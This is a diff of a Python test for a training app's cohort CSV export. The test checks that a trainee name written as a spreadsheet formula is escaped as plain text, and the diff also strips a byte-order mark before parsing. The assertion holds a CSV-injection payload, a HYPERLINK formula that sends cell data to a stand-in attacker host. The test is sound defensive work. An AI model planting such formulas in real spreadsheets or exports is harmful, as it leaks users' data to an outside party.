@@ -96,7 +96,7 @@ def test_a_trainee_named_like_a_formula_is_text_in_the_cohort_csv(client, db, ta
     db.commit()
     login_as(client, taught["instructor"])
     body = client.get(f"/instructeur/groepen/{taught['cohort'].id}/export/csv").get_data(as_text=True)
-    names = {r["trainee"] for r in csv.DictReader(io.StringIO(body))}
+    names = {r["trainee"] for r in csv.DictReader(io.StringIO(body.lstrip("\ufeff")))}
     assert '\'=HYPERLINK("http://evil.example/?"&A1,"Klik")' in names
     assert not any(name.startswith("=") for name in names)
 
